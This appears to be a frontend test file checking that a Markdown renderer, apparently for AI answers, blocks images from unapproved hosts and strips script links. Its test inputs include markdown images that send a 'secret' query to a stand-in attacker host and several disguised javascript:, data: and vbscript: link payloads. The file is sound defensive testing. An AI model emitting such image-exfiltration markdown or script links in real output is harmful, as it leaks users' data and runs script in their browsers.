import { render, screen } from "@testing-library/react";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { Markdown } from "./Markdown";

const auth = vi.hoisted(() => ({ me: { user: { image_hosts: ["images.example.com"] as string[] | null } } }));
vi.mock("../auth/AuthProvider", () => ({ useAuthIfAny: () => auth.me }));

function renderAnswer(text: string) {
  return render(<Markdown text={text} />).container;
}

describe("Markdown exfiltration", () => {
  beforeEach(() => {
    auth.me = { user: { image_hosts: ["images.example.com"] } };
  });

  it("loads no image from a host not allowed and says where it was from", () => {
    const container = renderAnswer("Done. ![x](https://evil.example/x?q=secret) ![y](HTTPS://user@Evil.Example:8443/y)");
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getAllByText("[image from evil.example not loaded]")).toHaveLength(2);
  });

  it("reads URLs as the browser would, so tricks still name the other host", () => {
    const container = renderAnswer("![a](//evil.example/a) ![b](https:evil.example/b) ![c](<https://evil.example/c d>)");
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getAllByText("[image from evil.example not loaded]")).toHaveLength(3);
  });

  it("loads images from this app and the allowed hosts", () => {
    const container = renderAnswer("![own](/api/v1/files/1/content) ![ok](https://Images.Example.com/a.png)");
    expect([...container.querySelectorAll("img")].map((img) => img.getAttribute("src"))).toEqual([
      "/api/v1/files/1/content",
      "https://Images.Example.com/a.png",
    ]);
  });

  it("allows no other host when the server names none (or before the profile is known)", () => {
    auth.me = { user: { image_hosts: null } };
    const container = renderAnswer("![ok](https://images.example.com/a.png)");
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getByText("[image from images.example.com not loaded]")).toBeInTheDocument();
  });

  it("follows reference-style images and links to their definitions", () => {
    const container = renderAnswer(
      "![leak][img] and [click][js] and [docs][ok]\n\n[img]: https://evil.example/p.png?q=1\n[js]: javascript:alert(1)\n[ok]: https://docs.example.com\n",
    );
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getByText("[image from evil.example not loaded]")).toBeInTheDocument();
    expect(screen.getByText("click").closest("a")).toBeNull();
    expect(screen.getByRole("link", { name: "docs" })).toHaveAttribute("href", "https://docs.example.com");
  });

  it.each([
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
  ])("renders %s as text without an href", (link) => {
    const container = renderAnswer(`see ${link}`);
    expect(container.querySelector("a")).toBeNull();
    expect(container.innerHTML).not.toMatch(/href=/i);
  });

  it("keeps ordinary links opening elsewhere without a referrer", () => {
    renderAnswer("[docs](https://docs.example.com/a) [mail](mailto:a@example.com)");
    for (const name of ["docs", "mail"]) {
      const link = screen.getByRole("link", { name });
      expect(link).toHaveAttribute("target", "_blank");
      expect(link).toHaveAttribute("rel", "noopener noreferrer");
    }
  });

  it("renders no raw HTML image at all", () => {
    const container = renderAnswer('<img src="https://evil.example/p.png"> <a href="javascript:alert(1)">x</a>');
    expect(container.querySelector("img, a")).toBeNull();
  });

  it("leaves Markdown shown as code alone", () => {
    const container = renderAnswer("```md\n![x](https://evil.example/a)\n```\nand `[a](javascript:x)`");
    expect(container.querySelector("img, a")).toBeNull();
    expect(container.querySelector("pre code")).toHaveTextContent("![x](https://evil.example/a)");
    expect(screen.getByText("[a](javascript:x)")).toBeInTheDocument();
  });
});
